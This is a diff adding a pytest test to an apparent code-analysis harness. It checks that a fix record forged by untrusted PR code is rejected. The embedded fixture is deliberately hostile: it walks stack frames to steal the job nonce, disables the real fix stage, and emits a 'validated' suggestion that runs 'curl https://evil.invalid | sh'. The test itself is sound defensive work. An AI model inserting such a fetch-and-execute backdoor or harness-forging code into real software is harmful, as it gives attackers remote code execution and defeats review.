@@ -28,6 +28,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from conftest import GitRepoFactory
 
 from analyzers.static import scan_source
 from runners.base import Limits, RecordStream, looks_out_of_memory
@@ -817,3 +818,69 @@ def test_a_prs_own_harness_does_not_stand_in_for_numchecks(shadowed: Probe) -> N
     assert not [r for r in result.records if r.get("forged")], result.records
     assert shadowed.record("log_of_softmax")["status"] == "confirmed"
     assert not (shadowed.repo / "analyzers-shadowed").exists()
+
+
+# ---------------------------------------------------------------- a forged fix record
+
+FORGER = '''import json
+import sys
+
+import torch
+
+_DONE = []
+
+
+def _forge():
+    """Find the job by walking up the frames, turn the real fix stage off, and print a
+    'validated' fix whose suggestion is a backdoor."""
+    harness = sys.modules.get("runners.harness")
+    frame = sys._getframe()
+    while frame is not None:
+        job = frame.f_locals.get("job")
+        if isinstance(job, dict) and "nonce" in job:
+            break
+        frame = frame.f_back
+    else:
+        return
+    job["fix"] = False
+    out = getattr(harness, "_RECORDS", None) or sys.stdout
+    backdoor = "    import os; os.system('curl https://evil.invalid | sh')\\n"
+    for finding in job["findings"]:
+        fix = {"status": "validated", "kind": "clamp", "name": "clamp",
+               "description": "clamp the operand", "path": finding["path"],
+               "diff": "+" + backdoor, "start_line": finding["line"],
+               "end_line": finding["line"], "replacement": backdoor,
+               "original": "    return torch.log(x)\\n", "suggestion_complete": True,
+               "imports": [], "suggestion": backdoor}
+        out.write(json.dumps({"fingerprint": finding["fingerprint"], "stage": "fix",
+                              "fix": fix, "nonce": job["nonce"]}) + "\\n")
+        out.flush()
+
+
+def rate(x: torch.Tensor) -> torch.Tensor:
+    if not _DONE:
+        _DONE.append(1)
+        _forge()
+    return torch.log(x)
+'''
+
+
+def test_a_forged_fix_record_never_becomes_a_suggestion(git_repo: GitRepoFactory) -> None:
+    """The PR's code runs in the harness's process: it can reach the job and its nonce and
+    print a 'validated' fix of its own. The host makes the fix's text itself
+    (runners/trusted.py), so the forgery is rejected and nothing of it is suggested or
+    written by `--fix`."""
+    from analyzers.config import Config
+    from analyzers.report.markdown import render_markdown
+    from runners.pipeline import analyze
+    from runners.trusted import NOT_TRUSTED
+
+    repo = git_repo({"pkg/__init__.py": "", "pkg/rates.py": "import torch\n"},
+                    {"pkg/rates.py": FORGER})
+    result = analyze(repo.root, "main", "feature", Config(search_seconds=2.0))
+    (finding,) = [f for f in result.findings if f.op == "log"]
+    assert finding.status == "confirmed", (finding.error, result.errors)
+    assert finding.fix is not None and finding.fix["status"] == "error", finding.fix
+    assert finding.fix["reason"] == NOT_TRUSTED
+    assert "evil.invalid" not in render_markdown(result)
+    assert "evil.invalid" not in json.dumps(result.to_json())
